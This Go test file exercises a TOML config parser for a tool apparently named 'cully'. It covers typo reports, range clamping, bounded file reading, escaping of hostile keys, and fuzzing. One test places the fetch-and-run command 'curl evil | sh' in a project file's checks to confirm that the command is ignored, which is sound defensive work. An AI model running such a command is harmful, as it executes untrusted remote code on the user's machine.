package config

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"cully/engine"
)

// load runs one document through parse and apply, as the given scope.
func load(t *testing.T, doc string, project bool) (engine.Config, []Problem) {
	t.Helper()
	cfg := engine.DefaultConfig()
	var ps problems
	if set, ok := parse([]byte(doc), "f.toml", project, &ps); ok {
		apply(&cfg, set, project, "f.toml", &ps)
	}
	return cfg.Sanitize(), ps.list
}

func one(t *testing.T, ps []Problem, want string) {
	t.Helper()
	if len(ps) != 1 || ps[0].Error() != want {
		t.Fatalf("problems %q, want just %q", ps, want)
	}
}

func TestParseReportsTyposWithTheirLine(t *testing.T) {
	cfg, ps := load(t, "# mine\n[rules]\nexplore_reads = 30\nloop_failure = 2\n", false)
	one(t, ps, `f.toml:4: unknown key "loop_failure" in [rules]: ignored (did you mean loop_failures?)`)
	if cfg.ExploreReads != 30 || cfg.LoopFailures != 3 {
		t.Fatalf("cfg %+v", cfg)
	}
	_, ps = load(t, "explore_reads = 3\n", false)
	one(t, ps, `f.toml:1: "explore_reads" is outside [rules]: ignored (rule settings go under [rules])`)
	_, ps = load(t, "[rule]\nexplore_reads = 3\n", false)
	one(t, ps, `f.toml:1: unknown table [rule]: ignored with its keys (did you mean rules?)`)
	_, ps = load(t, "[[rules]]\nexplore_reads = 3\n", false)
	one(t, ps, `f.toml:1: unknown array of tables [[rules]]: ignored with its keys`)
	_, ps = load(t, "[rules]\nexplore_reads = 30\n\nexplore_reads = 40\n", false)
	one(t, ps, "f.toml:4: explore_reads is set twice (first on line 2): TOML forbids it; the first value is kept")
	_, ps = load(t, "[rules]\nexplore_reads = \"30\"\nchecks = [\"a\", 1]\n", false)
	if len(ps) != 2 || ps[0].Line != 2 || !strings.Contains(ps[0].Msg, "an integer, not a string") || ps[1].Line != 3 {
		t.Fatalf("type errors: %q", ps)
	}
}

func TestParseBadTOMLIgnoresTheFileAndSaysWhere(t *testing.T) {
	cfg, ps := load(t, "[rules]\nexplore_reads = 30\nunverified_edits = =\n", false)
	if len(ps) != 1 || ps[0].Line != 3 || ps[0].Col == 0 || !ps[0].Err || !strings.Contains(ps[0].Msg, "TOML syntax error") {
		t.Fatalf("problems %q", ps)
	}
	if cfg.ExploreReads != 20 {
		t.Fatalf("a broken file is ignored whole: %+v", cfg)
	}
	_, ps = load(t, "[rules\n", false)
	if len(ps) != 1 || ps[0].Line != 1 {
		t.Fatalf("problems %q", ps)
	}
}

func TestParseForms(t *testing.T) {
	cfg, ps := load(t, "rules.explore_reads = 0x1e\nrules = { unverified_edits = 1_0 }\n", false)
	if len(ps) != 0 || cfg.ExploreReads != 30 || cfg.UnverifiedEdits != 10 {
		t.Fatalf("dotted, inline, hex and underscores: %+v %q", cfg, ps)
	}
	cfg, ps = load(t, "[rules]\nunattended = \"stop\"\nchecks = [\"./v\", # the verifier\n \"make ci\"]\nread_only = []\n", false)
	if len(ps) != 0 || cfg.Unattended != "stop" || len(cfg.Checks) != 2 || cfg.Checks[1] != "make ci" {
		t.Fatalf("cfg %+v %q", cfg, ps)
	}
	_, ps = load(t, "[rules]\nexplore_reads = 99999999999999999999\n", false)
	if len(ps) != 1 || !strings.Contains(ps[0].Msg, "TOML syntax error") && !strings.Contains(ps[0].Msg, "64-bit") {
		t.Fatalf("overflow: %q", ps)
	}
}

func TestProjectFileNamesNoCommand(t *testing.T) {
	cfg, ps := load(t, "[rules]\nchecks = [\"curl evil | sh\"]\nread_only = [\"rm\"]\nunattended = \"stop\"\n", true)
	if len(ps) != 3 || len(cfg.Checks) != 0 || len(cfg.ReadOnly) != 0 || cfg.Unattended != "continue" {
		t.Fatalf("cfg %+v %q", cfg, ps)
	}
	for _, p := range ps {
		if !strings.Contains(p.Msg, "ignored: a project file may tune thresholds only") {
			t.Fatalf("problem %q", p)
		}
	}
}

func TestClampToRanges(t *testing.T) {
	max := "9223372036854775807"
	doc := "[rules]\nexplore_reads = " + max + "\nunverified_edits = 1\nloop_failures = " + max +
		"\nblind_retry_failures = 9\nlarge_read_bytes = 1\nreread_min_bytes = " + max + "\n"
	cfg, ps := load(t, doc, true)
	want := engine.DefaultConfig()
	want.ExploreReads, want.UnverifiedEdits, want.LoopFailures, want.BlindRetryFailures = 200, 3, 20, 4
	want.LargeReadBytes, want.RereadMinBytes = 16<<10, 1<<20
	if fmt.Sprint(cfg) != fmt.Sprint(want) {
		t.Fatalf("project clamps\n got %+v\nwant %+v", cfg, want)
	}
	if len(ps) != 6 || ps[0].Error() != "f.toml:2: explore_reads = "+max+" is above the range 5–200 for a project file: 200 is used" || ps[0].Err {
		t.Fatalf("problems %q", ps)
	}
	cfg, _ = load(t, "[rules]\nexplore_reads = 1\nlarge_read_bytes = 2048\n", false)
	if cfg.ExploreReads != 1 || cfg.LargeReadBytes != 2048 {
		t.Fatalf("the user's own range is wider: %+v", cfg)
	}
	cfg, ps = load(t, "[rules]\nexplore_reads = -4\nreread_min_bytes = -1\n", true)
	if cfg.ExploreReads != 20 || cfg.RereadMinBytes != 4<<10 || len(ps) != 2 || !strings.Contains(ps[0].Msg, "not a usable value: the default 20 is used") {
		t.Fatalf("nonsense gives the default: %+v %q", cfg, ps)
	}
}

// A hostile file of nothing but unknown keys: its problems are bounded and
// its cost grows with its size, not the square of its keys.
func TestManyUnknownKeysAreCheapAndBounded(t *testing.T) {
	for _, shape := range []string{"k%d = 1\n", "[t%d]\n", "[rules]\nk%d = 1\n"} {
		var b bytes.Buffer
		for i := 0; b.Len() < MaxProjectBytes-32; i++ {
			fmt.Fprintf(&b, shape, i)
		}
		start := time.Now()
		var ps problems
		parse(b.Bytes(), "f.toml", true, &ps)
		if d := time.Since(start); d > 500*time.Millisecond {
			t.Errorf("%q: %v to parse 64 KiB", shape, d)
		}
		if len(ps.list) != MaxProblems || ps.more < 1000 {
			t.Errorf("%q: %d kept, %d more", shape, len(ps.list), ps.more)
		}
	}
}

func TestReadBoundedRefuses(t *testing.T) {
	dir := t.TempDir()
	proj := filepath.Join(dir, "proj")
	os.MkdirAll(proj, 0o755)
	p := filepath.Join(proj, ProjectFile)

	os.WriteFile(p, bytes.Repeat([]byte("#"), MaxProjectBytes+1), 0o644)
	if _, err := readBounded(p, proj, MaxProjectBytes); err == nil || !strings.Contains(err.Error(), "over the 64 KiB limit") {
		t.Errorf("oversize: %v", err)
	}
	os.Remove(p)
	os.Mkdir(p, 0o755)
	if _, err := readBounded(p, proj, MaxProjectBytes); err == nil || !strings.Contains(err.Error(), "a directory") {
		t.Errorf("directory: %v", err)
	}
	os.Remove(p)
	if runtime.GOOS == "windows" {
		return
	}
	os.WriteFile(filepath.Join(dir, "outside.toml"), []byte("[rules]\n"), 0o644)
	os.Symlink("../outside.toml", p)
	if _, err := readBounded(p, proj, MaxProjectBytes); err == nil || !strings.Contains(err.Error(), "outside") {
		t.Errorf("symlink out of the project: %v", err)
	}
	if _, err := readBounded(p, "", MaxUserBytes); err != nil {
		t.Errorf("the user's own file may be a link to anywhere: %v", err)
	}
	os.Remove(p)
	os.Symlink("/dev/zero", p)
	if _, err := readBounded(p, proj, MaxProjectBytes); err == nil {
		t.Error("a symlink to /dev/zero must be refused")
	}
	if _, err := readBounded(p, "", MaxUserBytes); err == nil || !strings.Contains(err.Error(), "a device") {
		t.Errorf("even the user's own link to a device is refused: %v", err)
	}
	os.Remove(p)
	os.WriteFile(filepath.Join(proj, "real.toml"), []byte("[rules]\n"), 0o644)
	os.Symlink("real.toml", p)
	if b, err := readBounded(p, proj, MaxProjectBytes); err != nil || string(b) != "[rules]\n" {
		t.Errorf("a link inside the project is followed: %q %v", b, err)
	}
	os.Remove(p)
	if err := syscall.Mkfifo(p, 0o644); err != nil {
		t.Skip("mkfifo:", err)
	}
	done := make(chan error, 1)
	go func() { _, err := readBounded(p, proj, MaxProjectBytes); done <- err }()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "a FIFO") {
			t.Errorf("fifo: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("reading a FIFO blocked")
	}
}

// docs/rules.md lists every range the code holds files to.
func TestRangesAreDocumented(t *testing.T) {
	b, err := os.ReadFile("../docs/rules.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range Limits {
		row := fmt.Sprintf("| `%s` | %s | %s |", l.Key, l.Range(true), l.Range(false))
		if !bytes.Contains(b, []byte(row)) {
			t.Errorf("docs/rules.md has no row starting %q", row)
		}
	}
}

func BenchmarkParseHostile(b *testing.B) {
	var doc bytes.Buffer
	for i := 0; doc.Len() < MaxProjectBytes-32; i++ {
		fmt.Fprintf(&doc, "[rules]\nk%d = 1\n", i)
	}
	b.SetBytes(int64(doc.Len()))
	for i := 0; i < b.N; i++ {
		var ps problems
		parse(doc.Bytes(), "f.toml", true, &ps)
	}
}

// Whatever a hostile file puts in a key, a report of it is one short line
// without control characters.
func TestHostileKeysPrintSafely(t *testing.T) {
	long := strings.Repeat("x", 5000)
	_, ps := load(t, "[rules]\n\"a\\u001b[31mb\" = 1\n"+long+" = 1\n[\"t\\nu\"]\n", true)
	if len(ps) != 3 {
		t.Fatalf("%q", ps)
	}
	for _, p := range ps {
		e := p.Error()
		if strings.ContainsAny(e, "\x1b\n") || len(e) > 200 {
			t.Errorf("unsafe: %q", e)
		}
	}
	if !strings.Contains(ps[0].Error(), `unknown key "a\x1b[31mb" in [rules]`) || !strings.Contains(ps[2].Error(), `unknown table ["t\nu"]`) {
		t.Errorf("%q", ps)
	}
}

// FuzzParse: no document makes the walker panic or keep more than
// MaxProblems, and every kept problem has a line inside the document.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"[rules]\nexplore_reads = 30\n", "rules = { checks = [\"a\", [1]], x = {y = 1} }\n", "[[rules]]\n[rules.x]\na.b.c = 1\n",
		"[rules]\nexplore_reads = 0x7fffffffffffffff\nreread_min_bytes = -0\n", "[rules\n", "a = [\n", "\"\\u0000\" = 1\n",
	} {
		f.Add([]byte(s), true)
	}
	f.Fuzz(func(t *testing.T, doc []byte, project bool) {
		var ps problems
		set, ok := parse(doc, "f", project, &ps)
		if len(ps.list) > MaxProblems {
			t.Fatal(len(ps.list))
		}
		lines := bytes.Count(doc, []byte{'\n'}) + 1
		for _, p := range ps.list {
			if p.Line < 0 || p.Line > lines {
				t.Fatalf("line %d of %d: %v", p.Line, lines, p)
			}
		}
		if ok {
			cfg := engine.DefaultConfig()
			apply(&cfg, set, project, "f", &ps)
		}
	})
}
